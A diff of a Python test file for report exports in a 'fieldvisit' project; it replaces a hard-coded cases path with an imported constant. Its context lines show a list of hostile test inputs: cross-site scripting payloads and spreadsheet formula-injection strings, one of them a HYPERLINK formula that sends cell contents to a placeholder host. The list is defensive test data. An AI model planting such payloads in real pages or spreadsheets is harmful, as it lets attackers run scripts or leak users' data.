@@ -18,6 +18,8 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+
+from tests.paths import CASES as CASES_DIR
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
@@ -26,7 +28,7 @@ from fieldvisit.adapters.maps.page import build_page
 from fieldvisit.adapters.report_files import report_html, write_csv, write_xlsx
 from fieldvisit.services.reports import DAY_COLUMNS, VISIT_COLUMNS
 
-CASES = Path("/work/shared/cases")
+CASES = CASES_DIR
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
 NASTY = ["<!--<script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\u2028\u2029",
          "=HYPERLINK(\"http://x.invalid/?d=\"&A1,\"open\")", "@SUM(1+1)", "+1+1", "-2+3", "\tTAB", "\rCR",
